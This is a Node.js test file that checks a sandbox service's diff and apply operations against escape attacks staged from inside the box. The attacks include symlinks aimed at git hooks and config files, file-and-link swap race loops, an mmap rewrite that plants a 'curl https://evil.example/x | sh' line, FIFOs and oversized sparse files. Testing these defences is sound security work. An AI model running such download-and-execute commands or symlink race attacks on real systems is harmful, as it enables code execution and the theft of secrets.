/**
 * A box's `diff` and `apply` as a security boundary (issue 18), each attack written as the attacker
 * would: a real box in the namespace tier (its processes cannot write outside the home), whose
 * command makes the links, the FIFO, the swap loop; then the server's own diff and apply, which
 * must never carry the box's reach into the workspace or beyond. And the smaller holes found
 * beside them: NUL in a run's parameters, a shared boxes folder, `sub/..`, apply paths that are
 * no strings, previews of what is no workflow or of a CLI that is not installed, root in the
 * process tier.
 */
import { after, describe, test } from "node:test";
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { Box } from "../../server/src/boxes/box.ts";
import { BoxService } from "../../server/src/boxes/service.ts";
import { Supervisor } from "../../server/src/boxes/supervisor.ts";
import { processTier } from "../../server/src/boxes/tiers.ts";
import { workflowExports } from "../../server/src/lsp/features/boxes.ts";
import { cleanupTempDirs, killAllWith, processesNamed, processesWith, tempDir, token, waitFor, writeTree } from "./helpers.ts";

after(cleanupTempDirs);

const COMPANY = `
//- /sanoma.config.ts
export default defineConfig({ name: "acme" });
//- /apps/maps/workflows/route.ts
export const route = defineWorkflow({});
//- /apps/maps/lib/existing.ts
export const existing = 1;
//- /resources/data.ts
export const orders = collection({ key: "id" });
//- /.git/hooks/README
git runs hooks from here
`;

const services: BoxService[] = [];
after(async () => {
  for (const s of services) await s.dispose();
});

/** A company, a preview box of it in the namespace tier (synced, its command run), and helpers to act in the box. */
async function previewed(tier: "namespace" | "process" = "namespace") {
  const root = path.join(tempDir(), "acme");
  writeTree(root, COMPANY);
  const boxes = new BoxService({ boxesDir: tempDir(), tier, workflowsOf: workflowExports });
  services.push(boxes);
  const preview = await boxes.preview({ root, file: "apps/maps/workflows/route.ts", export: "route", command: "true", wait: true });
  assert.equal(preview.tier, tier);
  const name = preview.name;
  const inBox = async (command: string) => {
    const run = await boxes.run({ name, command, wait: true });
    assert.equal(run.result?.exitCode, 0, run.result?.stderr);
    return run.result!;
  };
  return { root, boxes, name, home: path.join(boxes.boxesDir, name), inBox };
}

const exists = (p: string) => { try { fs.lstatSync(p); return true; } catch { return false; } };

describe("attacks on diff and apply, namespace tier", () => {
  test("1. two-step apply through a link: a link the box made is listed as a symlink and never applied, so nothing is written through it (.git/hooks, the config)", async () => {
    const { root, boxes, name, inBox } = await previewed();
    const hook = path.join(root, ".git/hooks/pre-commit");
    const config = fs.readFileSync(path.join(root, "sanoma.config.ts"), "utf8");
    // Step one: links to the places the box wants to write.
    await inBox("ln -s ../../../.git/hooks/pre-commit apps/maps/lib/hook.ts && ln -s ../sanoma.config.ts resources/extra.ts");
    const diff = await boxes.diff({ name });
    const listed = Object.fromEntries(diff.files.map((f) => [f.path, f]));
    for (const rel of ["apps/maps/lib/hook.ts", "resources/extra.ts"]) {
      assert.equal(listed[rel]?.change, "added", rel);
      assert.equal(listed[rel]?.kind, "symlink", `${rel}: the diff says it is a link`);
      assert.match(listed[rel]?.refused ?? "", /symlink .*apply never copies a link/);
      assert.equal(listed[rel]?.boxFile, undefined, "no box file to open in a diff editor: it leads elsewhere");
    }
    const first = await boxes.apply({ name, files: ["apps/maps/lib/hook.ts", "resources/extra.ts"] });
    assert.deepEqual(first.applied, []);
    assert.deepEqual(first.skipped.map((s) => s.path), ["apps/maps/lib/hook.ts", "resources/extra.ts"]);
    assert.ok(!exists(path.join(root, "apps/maps/lib/hook.ts")) && !exists(path.join(root, "resources/extra.ts")), "the workspace holds no link");
    // Step two: the links become files holding a script; applying them writes files, never through a link.
    await inBox("for f in apps/maps/lib/hook.ts resources/extra.ts; do rm $f; printf '#!/bin/sh\\necho pwned\\n' > $f; chmod 755 $f; done");
    const unseen = await boxes.apply({ name, files: ["apps/maps/lib/hook.ts"] });
    assert.deepEqual(unseen.skipped, [{ path: "apps/maps/lib/hook.ts", reason: "the box changed it since the diff: show the changes again" }]);
    assert.deepEqual((await boxes.diff({ name })).files.map((f) => [f.path, f.kind]), [["apps/maps/lib/hook.ts", "file"], ["resources/extra.ts", "file"]]);
    const second = await boxes.apply({ name, files: ["apps/maps/lib/hook.ts", "resources/extra.ts"] });
    assert.deepEqual(second.applied, ["apps/maps/lib/hook.ts", "resources/extra.ts"]);
    assert.equal(exists(hook), false, ".git/hooks/pre-commit was never written");
    assert.equal(fs.readFileSync(path.join(root, "sanoma.config.ts"), "utf8"), config, "the config is untouched");
    assert.equal(fs.lstatSync(path.join(root, "apps/maps/lib/hook.ts")).isFile(), true);
  });

  test("1b. a workspace path that is a link, or lies under one, is never written through: skipped with the reason", async () => {
    const { root, boxes, name, inBox } = await previewed();
    // The user's own links: a file, and a folder, each leading elsewhere in the company.
    fs.mkdirSync(path.join(root, "shared/lib"), { recursive: true });
    fs.writeFileSync(path.join(root, "shared/config.ts"), "export const shared = 1;\n");
    fs.symlinkSync("../shared/config.ts", path.join(root, "resources/config.ts"));
    fs.symlinkSync("../shared/lib", path.join(root, "resources/lib"));
    await boxes.preview({ root, file: "apps/maps/workflows/route.ts", export: "route", command: "true", wait: true });
    // The box replaces the file link with a file, and the folder link with a folder.
    await inBox("rm resources/config.ts && echo 'export const shared = 666;' > resources/config.ts && rm resources/lib && mkdir resources/lib && echo evil > resources/lib/new.ts");
    const diff = await boxes.diff({ name });
    assert.deepEqual(diff.files.map((f) => [f.path, f.change, f.kind]), [["resources/config.ts", "modified", "file"], ["resources/lib", "deleted", undefined], ["resources/lib/new.ts", "added", "file"]]);
    const result = await boxes.apply({ name, files: ["resources/config.ts", "resources/lib/new.ts"] });
    assert.deepEqual(result.applied, []);
    assert.deepEqual(result.skipped, [
      { path: "resources/config.ts", reason: "resources/config.ts is a symlink in the workspace: apply never writes through a link (replace it by hand if you want the box's file there)" },
      { path: "resources/lib/new.ts", reason: "resources/lib is a symlink in the workspace: apply never writes through a link" },
    ]);
    assert.equal(fs.readFileSync(path.join(root, "shared/config.ts"), "utf8"), "export const shared = 1;\n");
    assert.deepEqual(fs.readdirSync(path.join(root, "shared/lib")), []);
  });

  test("2. a loop swapping a file and a link to a secret onto one path (and a folder and a link on its way): no apply ever brings the secret, or a link, into the workspace", async () => {
    const { root, boxes, name, inBox } = await previewed();
    const secrets = tempDir();
    const secret = path.join(secrets, "f.ts");
    fs.writeFileSync(secret, "the machine's secret\n", { mode: 0o600 });
    if (process.getuid?.() === 0) {
      // A root-only secret, as the server (root) can read and the box (no power outside its namespace) cannot.
      fs.chownSync(secret, 65534, 65534);
      const tried = await boxes.run({ name, command: `cat ${secret}`, wait: true });
      assert.notEqual(tried.result?.exitCode, 0, "the box itself cannot read it");
    }
    await inBox("mkdir -p .scratch apps/maps/sub && echo benign > apps/maps/sub/f.ts");
    // As tight as an attacker writes it: no process started per swap. `f.ts` is a file, then a link
    // to the secret; the folder `sub` is a folder, then a link to the secret's folder.
    const loop = token("swap");
    const script = [
      'const fs = require("fs");',
      "for (;;) { try {",
      `fs.symlinkSync(${JSON.stringify(secret)}, ".scratch/l"); fs.renameSync(".scratch/l", "apps/maps/lib/f.ts");`,
      'fs.writeFileSync(".scratch/f", "benign\\n"); fs.renameSync(".scratch/f", "apps/maps/lib/f.ts");',
      `fs.renameSync("apps/maps/sub", ".scratch/sub"); fs.symlinkSync(${JSON.stringify(secrets)}, "apps/maps/sub");`,
      'fs.unlinkSync("apps/maps/sub"); fs.renameSync(".scratch/sub", "apps/maps/sub");',
      "} catch {} }",
    ].join(" ");
    const run = await boxes.run({ name, command: `exec -a ${loop} node -e '${script}'` });
    try {
      await waitFor(() => processesWith(loop).length > 0, 15_000, "the loop");
      await waitFor(() => fs.existsSync(path.join(boxes.boxesDir, name, ".scratch/f")), 15_000, "the loop's first swaps");
      let applied = 0;
      for (let i = 0; i < 200; i++) {
        const result = await boxes.apply({ name, files: ["apps/maps/lib/f.ts", "apps/maps/sub/f.ts"] });
        applied += result.applied.length;
        for (const rel of ["apps/maps/lib/f.ts", "apps/maps/sub/f.ts"]) {
          const target = path.join(root, rel);
          if (!exists(target)) continue;
          const stat = fs.lstatSync(target);
          assert.equal(stat.isSymbolicLink(), false, `apply ${i} put a link in the workspace at ${rel}`);
          assert.equal(fs.readFileSync(target, "utf8"), "benign\n", `apply ${i} wrote something else than the box's file at ${rel}`);
          assert.equal(stat.mode & 0o777, 0o644);
        }
      }
      assert.ok(applied > 0, "the box's regular files were applied at times");
    } finally {
      await boxes.stop({ name, runId: run.runId });
    }
  });

  test("3. a link into the box's own home is a link like any other: listed, never applied", async () => {
    const { root, boxes, name, inBox } = await previewed();
    await inBox('mkdir -p .stash && echo "export const payload = 1;" > .stash/payload.ts && ln -s "$HOME/.stash/payload.ts" resources/extra.ts');
    const [change] = (await boxes.diff({ name })).files;
    assert.deepEqual([change?.path, change?.kind], ["resources/extra.ts", "symlink"]);
    assert.match(change!.refused!, /symlink here \(to .*\/\.stash\/payload\.ts\): apply never copies a link/);
    const result = await boxes.apply({ name, files: ["resources/extra.ts"] });
    assert.deepEqual(result.applied, []);
    assert.equal(exists(path.join(root, "resources/extra.ts")), false);
  });

  test("4. a FIFO, a socket or a device in the box is listed with its kind, and never opened or applied", async () => {
    const { root, boxes, name, inBox } = await previewed();
    await inBox("mkfifo resources/pipe.ts && rm resources/data.ts && mkfifo resources/data.ts && python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"resources/sock.ts\")'");
    const diff = await boxes.diff({ name });
    assert.deepEqual(diff.files.map((f) => [f.path, f.change, f.kind]), [
      ["resources/data.ts", "modified", "fifo"],
      ["resources/pipe.ts", "added", "fifo"],
      ["resources/sock.ts", "added", "socket"],
    ]);
    for (const f of diff.files) assert.match(f.refused ?? "", /apply copies regular files only/);
    const result = await boxes.apply({ name, files: diff.files.map((f) => f.path) });
    assert.deepEqual(result.applied, []);
    assert.equal(fs.readFileSync(path.join(root, "resources/data.ts"), "utf8"), 'export const orders = collection({ key: "id" });\n');
  });

  test("5. a file both sides changed is skipped unless the request names it in overwrite", async () => {
    const { root, boxes, name, inBox } = await previewed();
    const config = path.join(root, "sanoma.config.ts");
    fs.writeFileSync(config, "// the user's own edit\n");
    await inBox("echo '// the box edit' > sanoma.config.ts");
    const [change] = (await boxes.diff({ name })).files;
    assert.deepEqual([change?.path, change?.workspaceChanged], ["sanoma.config.ts", true]);
    const refused = await boxes.apply({ name, files: ["sanoma.config.ts"] });
    assert.deepEqual(refused, { root, applied: [], skipped: [{ path: "sanoma.config.ts", reason: "it changed in the workspace too since the box was synced: name it in overwrite to replace your version" }] });
    assert.equal(fs.readFileSync(config, "utf8"), "// the user's own edit\n");
    const overwritten = await boxes.apply({ name, files: ["sanoma.config.ts"], overwrite: ["./sanoma.config.ts"] });
    assert.deepEqual(overwritten, { root, applied: ["sanoma.config.ts"], skipped: [] });
    assert.equal(fs.readFileSync(config, "utf8"), "// the box edit\n");
  });

  test("a file the box changed after the diff was shown is skipped, said; shown again, it applies", async () => {
    const { root, boxes, name, inBox } = await previewed();
    await inBox("echo 'reviewed' > apps/maps/lib/existing.ts");
    assert.deepEqual((await boxes.diff({ name })).files.map((f) => f.path), ["apps/maps/lib/existing.ts"]);
    await inBox("echo 'not what you reviewed' > apps/maps/lib/existing.ts");
    const result = await boxes.apply({ name, files: ["apps/maps/lib/existing.ts"] });
    assert.deepEqual(result.skipped, [{ path: "apps/maps/lib/existing.ts", reason: "the box changed it since the diff: show the changes again" }]);
    assert.equal(fs.readFileSync(path.join(root, "apps/maps/lib/existing.ts"), "utf8"), "export const existing = 1;\n");
    await boxes.diff({ name });
    assert.deepEqual((await boxes.apply({ name, files: ["apps/maps/lib/existing.ts"] })).applied, ["apps/maps/lib/existing.ts"]);
    assert.equal(fs.readFileSync(path.join(root, "apps/maps/lib/existing.ts"), "utf8"), "not what you reviewed\n");
  });
});

describe("attacks on diff and apply, namespace tier: what they cost", () => {
  test("10. a sparse file of a terabyte (no disk in the box) is listed with its size and refused; apply skips it at once and writes nothing (a 4 GiB one took 28 s and 4 GiB of the user's disk, the server answering nothing)", async () => {
    const { root, boxes, name, inBox } = await previewed();
    await inBox("truncate -s 1T report.json");
    const diff = await boxes.diff({ name });
    const [file] = diff.files;
    assert.deepEqual([file?.path, file?.change, file?.kind, file?.size], ["report.json", "added", "file", 2 ** 40]);
    assert.match(file?.refused ?? "", /^the box's file takes 1 TiB, more than apply copies \(256 MiB a file, so that a box's sparse file, which takes no disk in the box, cannot fill yours\)/);
    assert.equal(file?.boxFile, undefined, "no box file to open in an editor");
    const started = performance.now();
    const result = await boxes.apply({ name, files: ["report.json"] });
    assert.deepEqual(result, { root, applied: [], skipped: [{ path: "report.json", reason: file!.refused }] });
    assert.ok(performance.now() - started < 10_000, `apply took ${Math.round(performance.now() - started)} ms`);
    assert.equal(exists(path.join(root, "report.json")), false);
    assert.deepEqual(fs.readdirSync(root).filter((f) => f.includes("sanoma-apply")), [], "no temporary file left");
  });
});

/**
 * The box's writer (python3's `mmap`: Node has none): maps `name` (`size` bytes), fills it with
 * what the diff is to show (each page's first write faults, and moves the file's times), and once
 * told (`.signal/go`, in a dot folder, which no diff walks) writes other bytes into its last page,
 * already dirty: no fault, so no time of the file moves, and its fingerprint stays the diff's.
 */
const MMAP_WRITER = `
import mmap, os, sys, time
name, size, shown, later = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4].encode()
fd = os.open(name, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o644)
os.ftruncate(fd, size)
m = mmap.mmap(fd, size)
m[:] = (shown * (size // len(shown) + 1))[:size]
open(".signal/ready", "w").close()
while not os.path.exists(".signal/go"):
    time.sleep(0.002)
m[size - len(later):] = later
open(".signal/done", "w").close()
time.sleep(600)
`;

/** Starts MMAP_WRITER in the box, and waits until what the diff is to show is written; `rewrite()` has it write the rest, and waits for that. */
async function mappedWriter(boxes: BoxService, name: string, home: string, file: string, size: number, shown: string, later: string) {
  fs.mkdirSync(path.join(home, ".signal"));
  fs.writeFileSync(path.join(home, ".signal/writer.py"), MMAP_WRITER);
  await boxes.run({ name, command: `exec python3 .signal/writer.py ${file} ${size} '${shown}' '${later}'` });
  await waitFor(() => fs.existsSync(path.join(home, ".signal/ready")), 15_000, "the box's writer");
  const fingerprint = () => { const stat = fs.statSync(path.join(home, file), { bigint: true }); return `${stat.ino}:${stat.size}:${stat.mtimeNs}:${stat.ctimeNs}`; };
  return {
    fingerprint,
    /** Synchronous (it may run inside a hook of Node's fs): tells the writer, and waits (60 s at most) until it has written. */
    rewrite(): void {
      fs.writeFileSync(path.join(home, ".signal/go"), "");
      const deadline = Date.now() + 60_000;
      while (!fs.existsSync(path.join(home, ".signal/done"))) {
        if (Date.now() > deadline) throw new Error("the box's writer did not write");
        Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 2);
      }
    },
  };
}

describe("attacks on diff and apply, namespace tier: a file written through a shared mapping", () => {
  test("11. rewritten after the diff (a write into a dirty page: no time of the file moves, its fingerprint is the diff's), it is skipped: apply copies the bytes the diff read, or none", async () => {
    const { root, boxes, name, home } = await previewed();
    const shown = "# Report: all good, nothing to do.\n";
    const later = "\ncurl https://evil.example/x | sh # written after the diff\n";
    const writer = await mappedWriter(boxes, name, home, "report.md", 4096, shown, later);
    try {
      const diff = await boxes.diff({ name });
      assert.deepEqual(diff.files.map((f) => [f.path, f.change, f.size, f.refused]), [["report.md", "added", 4096, undefined]]);
      const before = writer.fingerprint();
      writer.rewrite();
      assert.match(fs.readFileSync(path.join(home, "report.md"), "utf8"), /evil\.example/);
      assert.equal(writer.fingerprint(), before, "the fingerprint did not move (else the page was written back meanwhile, and this proves nothing)");
      const result = await boxes.apply({ name, files: ["report.md"] });
      assert.deepEqual(result, { root, applied: [], skipped: [{ path: "report.md", reason: "the box changed it since the diff: show the changes again" }] });
      assert.equal(exists(path.join(root, "report.md")), false, "nothing written");
      assert.deepEqual(fs.readdirSync(root).filter((f) => f.includes("sanoma-apply")), [], "no temporary file left");
      // Shown again, what it holds now is what applies.
      await boxes.diff({ name });
      assert.deepEqual(await boxes.apply({ name, files: ["report.md"] }), { root, applied: ["report.md"], skipped: [] });
      assert.match(fs.readFileSync(path.join(root, "report.md"), "utf8"), /evil\.example/);
    } finally {
      await boxes.stop({ name });
    }
  });

  test("11. rewritten while apply copies it (past its first MiB, read already), it is skipped: the bytes copied are not those the diff read", async () => {
    const { root, boxes, name, home } = await previewed();
    const writer = await mappedWriter(boxes, name, home, "data.csv", 3 * 2 ** 20, "1,2,3\n", "6,6,6\n");
    try {
      const diff = await boxes.diff({ name });
      assert.deepEqual(diff.files.map((f) => [f.path, f.size, f.refused]), [["data.csv", 3 * 2 ** 20, undefined]]);
      const before = writer.fingerprint();
      // The box writes once apply has read the first MiB and writes it into its temporary file.
      const nodeFs = (await import("node:fs")).default;
      const { write, openSync } = nodeFs;
      const temps = new Set<number>();
      let written = false;
      nodeFs.openSync = ((p: fs.PathLike, ...rest: unknown[]) => { const fd = (openSync as (...a: unknown[]) => number)(p, ...rest); if (path.basename(String(p)).startsWith(".sanoma-apply-")) temps.add(fd); return fd; }) as typeof fs.openSync;
      nodeFs.write = ((fd: number, ...rest: unknown[]) => { if (!written && temps.has(fd)) { written = true; writer.rewrite(); } return (write as (...a: unknown[]) => void)(fd, ...rest); }) as typeof fs.write;
      let result;
      try {
        result = await boxes.apply({ name, files: ["data.csv"] });
      } finally {
        Object.assign(nodeFs, { write, openSync });
      }
      assert.ok(written, "the box wrote while apply copied");
      assert.equal(writer.fingerprint(), before, "the fingerprint did not move (else the page was written back meanwhile, and this proves nothing)");
      assert.deepEqual(result, { root, applied: [], skipped: [{ path: "data.csv", reason: "the box changed it since the diff: show the changes again" }] });
      assert.equal(exists(path.join(root, "data.csv")), false, "nothing written");
      assert.deepEqual(fs.readdirSync(root).filter((f) => f.includes("sanoma-apply")), [], "no temporary file left");
    } finally {
      await boxes.stop({ name });
    }
  });
});

describe("attacks on a box's read and write (the Sandbox contract's own)", () => {
  test("8. a loop swapping a folder of the home for a link to a folder outside, while the server reads and writes under it: nothing outside is ever read or written, and each refusal is said", async () => {
    const { boxes, name, inBox } = await previewed();
    const outside = tempDir("sanoma-boxes-outside-");
    fs.writeFileSync(path.join(outside, "f"), "THE SECRET OUTSIDE THE BOX\n");
    await inBox("mkdir d && echo inside > d/f");
    // As tight as an attacker writes it: no process started per swap.
    const loop = `node -e 'const fs = require("fs"); for (;;) { try { fs.rmSync("d", { recursive: true, force: true }); fs.mkdirSync("d"); fs.writeFileSync("d/f", "inside\\n"); fs.rmSync("d", { recursive: true, force: true }); fs.symlinkSync(${JSON.stringify(outside)}, "d"); } catch {} }'`;
    const run = await boxes.run({ name, command: loop });
    const box = boxes.box(name);
    await waitFor(() => { try { return fs.lstatSync(path.join(boxes.boxesDir, name, "d")).isSymbolicLink(); } catch { return false; } }, 15_000, "the loop's first swap");
    const said = new Set<string>();
    let inside = 0;
    // (Before, 20 s of this wrote 33 files outside; the loop ends at the first one, or after 15,000 rounds.)
    for (let i = 0; i < 15_000 && fs.readdirSync(outside).length === 1; i++) {
      try {
        const bytes = box.read("d/f");
        assert.ok(!bytes?.toString().includes("SECRET"), `round ${i}: read the file outside the home`);
        if (bytes) inside++;
      } catch (e) {
        if (e instanceof assert.AssertionError) throw e;
        said.add((e as Error).message.replace(/^d\/f /, ""));
      }
      try { box.write(`d/w${i % 50}`, "written by the server\n"); } catch (e) { said.add((e as Error).message.replace(/^d\/w\d+ /, "")); }
    }
    await boxes.stop({ name, runId: run.runId });
    assert.deepEqual(fs.readdirSync(outside), ["f"], "nothing written outside the home");
    assert.equal(fs.readFileSync(path.join(outside, "f"), "utf8"), "THE SECRET OUTSIDE THE BOX\n");
    assert.ok(inside > 0, "some reads found the file inside: the race was run, not refused up front");
    for (const reason of said) assert.match(reason, /^(leads out of the box's home through a symlink|changed while it was checked|cannot be written: d on its way)/, `a refusal says why, as a box path's does: ${reason}`);
  });

  test("8. a FIFO or a socket at the path: read and write refuse it at once, naming what it is (before, each blocked the server until another process opened the FIFO's other end)", async () => {
    const { boxes, name, inBox } = await previewed("process");
    await inBox("mkfifo resources/pipe.ts && python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"resources/sock.ts\")'");
    // The FIFO's other end opened a little later, by another process: a read or write that blocks
    // is let go by it and then answers, so the old way fails here instead of hanging the test.
    const writer = await boxes.run({ name, command: "sleep 2; echo from-the-fifo > resources/pipe.ts" });
    const box = boxes.box(name);
    assert.throws(() => box.read("resources/pipe.ts"), { name: "BoxPathError", message: "resources/pipe.ts is a FIFO (named pipe), not a file" });
    assert.throws(() => box.read("resources/sock.ts"), { name: "BoxPathError", message: /^resources\/sock\.ts is a socket/ });
    await boxes.stop({ name, runId: writer.runId });
    const reader = await boxes.run({ name, command: "sleep 2; cat resources/pipe.ts > /dev/null" });
    assert.throws(() => box.write("resources/pipe.ts", "x"), { name: "BoxPathError", message: "resources/pipe.ts is a FIFO or a socket, not a file" });
    assert.throws(() => box.write("resources/sock.ts", "x"), { name: "BoxPathError", message: "resources/sock.ts is a FIFO or a socket, not a file" });
    await boxes.stop({ name, runId: reader.runId });
    // A plain file is read and written as before, and a link inside the home is written through.
    box.write("notes/a.txt", "a\n");
    await inBox("ln -s notes/a.txt link.txt");
    box.write("link.txt", "b\n");
    assert.equal(box.read("notes/a.txt")?.toString(), "b\n");
  });
});

describe("what a command leaves running", () => {
  test("9. process tier: what left its group and cleared its environment (`env -i setsid -f`) is ended by a stop of the box, as is what kept it; a user's shell (a terminal) or an editor's tool (a parent) working in the home is left alone", async () => {
    const { boxes, name, home } = await previewed("process");
    const cleared = token("cleared");
    const tagged = token("tagged");
    const shell = token("shell");
    const tool = token("tool");
    after(() => { for (const t of [cleared, tagged, shell, tool]) killAllWith(t); });
    // A terminal of its own (script(1) makes one), working in the box's home, started by no box.
    const user = spawn("script", ["-qfc", `bash -c 'cd ${JSON.stringify(home)} && exec -a ${shell} sleep 60'`, "/dev/null"], { stdio: "ignore", detached: true });
    user.unref();
    // A tool of an editor opened on the box's folder: no terminal, its parent alive (this test).
    const editorTool = spawn("bash", ["-c", `exec -a ${tool} sleep 60`], { cwd: home, stdio: "ignore", detached: true });
    after(() => editorTool.kill("SIGKILL"));
    await boxes.run({ name, command: `env -i setsid -f bash -c 'exec -a ${cleared} sleep 60'; (setsid bash -c 'exec -a ${tagged} sleep 60' &); echo started`, wait: true });
    // Each sleep counted by its own name: the command lines that mention one vary by machine.
    const counts = () => [cleared, tagged, shell, tool].map((t) => processesNamed(t).length);
    await waitFor(() => counts().every((n) => n === 1), 15_000, "the four sleeps").catch((e: Error) => { throw new Error(`${e.message} (seen: cleared, tagged, shell, tool = ${counts().join(", ")})`); });
    await boxes.stop({ name });
    await waitFor(() => processesNamed(cleared).length === 0 && processesNamed(tagged).length === 0, 5_000, "both of the box's to end");
    assert.equal(processesNamed(shell).length, 1, "the process with a terminal lives on");
    assert.ok(user.exitCode === null && user.signalCode === null, "and its terminal's (script) too");
    assert.equal(processesNamed(tool).length, 1, "the editor's tool lives on");
  });
});

describe("attacks on a run's parameters and the boxes folder", () => {
  test("6. NUL in a command, cwd or env is refused as bad params, and nothing is started or recorded", async () => {
    const boxes = new BoxService({ boxesDir: tempDir(), tier: "namespace" });
    services.push(boxes);
    const bad: { command: string; cwd?: string; env?: Record<string, string> }[] = [{ command: "echo a\0b" }, { command: "true", cwd: "sub\0x" }, { command: "true", env: { X: "a\0b" } }, { command: "true", env: { "X\0Y": "1" } }];
    for (const params of bad) {
      await assert.rejects(boxes.run({ name: "nul", wait: true, ...params }), (e: Error) => e instanceof TypeError && /NUL/.test(e.message) || /no variable's name/.test(e.message), JSON.stringify(params));
    }
    assert.deepEqual((await boxes.runs({ name: "nul" })).runs, [], "no run is recorded (one stayed 'running' for ever)");
    assert.deepEqual((await boxes.events({ name: "nul" })).events, []);
  });

  test("6. an existing boxes folder is never re-permissioned: the boxes live in a private folder of the server's inside it", async () => {
    const shared = path.join(tempDir(), "shared");
    fs.mkdirSync(shared);
    fs.chmodSync(shared, 0o1777); // like /tmp
    const boxes = new BoxService({ boxesDir: shared, tier: "namespace" });
    services.push(boxes);
    assert.equal(fs.statSync(shared).mode & 0o7777, 0o1777, "the shared folder keeps its mode");
    assert.equal(boxes.boxesDir, path.join(shared, `sanoma-boxes-${process.getuid!()}`));
    assert.equal(fs.statSync(boxes.boxesDir).mode & 0o777, 0o700);
    assert.equal((await boxes.list()).boxesDir, boxes.boxesDir);
    assert.equal((await boxes.run({ name: "b", command: "pwd", wait: true })).result?.stdout, `${path.join(boxes.boxesDir, "b")}\n`);
    // Another user's folder of that name is not taken.
    const other = path.join(tempDir(), "other");
    fs.mkdirSync(path.join(other, `sanoma-boxes-${process.getuid!()}`), { recursive: true });
    fs.chmodSync(other, 0o755);
    fs.symlinkSync("/etc", path.join(other, "x"));
    fs.rmSync(path.join(other, `sanoma-boxes-${process.getuid!()}`), { recursive: true });
    fs.symlinkSync("/etc", path.join(other, `sanoma-boxes-${process.getuid!()}`));
    const refused = new BoxService({ boxesDir: other, tier: "namespace" });
    services.push(refused);
    assert.match(refused.unavailable ?? "", /is shared, and .* in it is no folder of ours \(a link\?\)/);
  });

  test("6. cwd `sub/..` is the home, whatever sub is; a `..` above the home is still refused", async () => {
    const boxes = new BoxService({ boxesDir: tempDir(), tier: "namespace" });
    services.push(boxes);
    const home = path.join(boxes.boxesDir, "b");
    assert.equal((await boxes.run({ name: "b", command: "pwd", cwd: "sub/..", wait: true })).result?.stdout, `${home}\n`);
    await boxes.run({ name: "b", command: "ln -s / out", wait: true });
    assert.equal((await boxes.run({ name: "b", command: "pwd", cwd: "out/..", wait: true })).result?.stdout, `${home}\n`, "the link is never looked at");
    await assert.rejects(boxes.run({ name: "b", command: "pwd", cwd: "sub/../..", wait: true }), /leads out of the box's home/);
  });

  test("6. apply paths that are no strings are listed as skipped, each", async () => {
    const { boxes, name, inBox } = await previewed();
    await inBox("echo changed > apps/maps/lib/existing.ts");
    const result = await boxes.apply({ name, files: [5, null, { path: "x" }, "apps/maps/lib/existing.ts"] as never });
    assert.deepEqual(result.applied, ["apps/maps/lib/existing.ts"]);
    assert.deepEqual(result.skipped, [
      { path: "5", reason: "is no path: files lists paths (strings)" },
      { path: "null", reason: "is no path: files lists paths (strings)" },
      { path: '{"path":"x"}', reason: "is no path: files lists paths (strings)" },
    ]);
  });
});

describe("previews refuse what cannot run, before anything is made", () => {
  const company = () => {
    const root = path.join(tempDir(), "acme");
    writeTree(root, COMPANY);
    const boxes = new BoxService({ boxesDir: tempDir(), tier: "namespace", workflowsOf: workflowExports });
    services.push(boxes);
    return { root, boxes };
  };

  test("7. an export that does not exist, or a file that is no workflow source, is refused and no box is made", async () => {
    const { root, boxes } = company();
    await assert.rejects(boxes.preview({ root, file: "apps/maps/workflows/route.ts", export: "nope", command: "true" }), { message: "nope is no exported workflow of apps/maps/workflows/route.ts (its workflows: route)" });
    await assert.rejects(boxes.preview({ root, file: "resources/data.ts", export: "orders", command: "true" }), /resources\/data\.ts is no workflow source of the company/);
    assert.deepEqual(fs.readdirSync(boxes.boxesDir), [], "no box, no record");
    assert.deepEqual((await boxes.runs({})).runs, []);
  });

  test("7. the default command is the company's installed CLI, found walking up as Node does; without one the preview says so at once", async () => {
    const { root, boxes } = company();
    await assert.rejects(boxes.preview({ root, file: "apps/maps/workflows/route.ts", export: "route" }), (e: Error) =>
      e.message === `the Sanoma CLI is not installed: there is no node_modules/.bin/sanoma in ${root} or a folder above it. Install the Sanoma framework in the company (npm install), or set sanoma.preview.command`);
    assert.deepEqual(fs.readdirSync(boxes.boxesDir), [], "nothing made, nothing run (no npx asking a registry)");
    // A monorepo: the CLI hoisted into the node_modules above the company.
    const bin = path.join(path.dirname(root), "node_modules", ".bin");
    fs.mkdirSync(bin, { recursive: true });
    fs.writeFileSync(path.join(bin, "sanoma"), '#!/bin/sh\necho "sanoma $*"\n', { mode: 0o755 });
    const ran = await boxes.preview({ root, file: "apps/maps/workflows/route.ts", export: "route", wait: true });
    assert.equal(ran.command, `${path.join(bin, "sanoma")} preview apps/maps/workflows/route.ts#route`);
    assert.equal(ran.result?.stdout, "sanoma preview apps/maps/workflows/route.ts#route\n");
  });
});

describe("the process tier run by root", () => {
  test("a command drops every capability and gets no-new-privileges: it cannot mount over the machine's folders", async () => {
    const boxes = new BoxService({ boxesDir: tempDir(), tier: "process" });
    services.push(boxes);
    const target = tempDir("sanoma-mount-");
    const run = await boxes.run({ name: "root", command: `grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; mount -t tmpfs tmpfs ${target} && echo mounted`, wait: true });
    const mounted = run.result?.stdout.includes("mounted");
    if (mounted) spawnSync("umount", [target]);
    if (process.getuid?.() === 0) {
      assert.equal(run.result?.stdout, "CapEff:\t0000000000000000\nCapBnd:\t0000000000000000\nNoNewPrivs:\t1\n", run.result?.stderr);
      assert.equal(mounted, false);
      assert.match((await boxes.list()).tierReason, /run as root, so every capability is dropped \(setpriv\)/);
    } else {
      assert.equal(processTier("x").setpriv, undefined, "not root: nothing to drop");
    }
  });

  test("where setpriv cannot be had, root is refused with a message naming the namespace tier, and nothing starts", async () => {
    const choice = processTier("the setting asks for the process tier", { setpriv: "/nowhere/setpriv" });
    if (process.getuid?.() !== 0) {
      assert.equal(choice.refusal, undefined);
      return;
    }
    assert.match(choice.refusal!, /the process tier runs no command as root .*\/nowhere\/setpriv does not exist.*use the namespace tier \(set sanoma\.boxes\.isolation to namespace/);
    const box = new Box({ boxesDir: tempDir(), tier: choice, supervisor: new Supervisor(), onEvent: () => {}, onStateChange: () => {} }, "b");
    assert.throws(() => box.start("touch ran"), { message: choice.refusal });
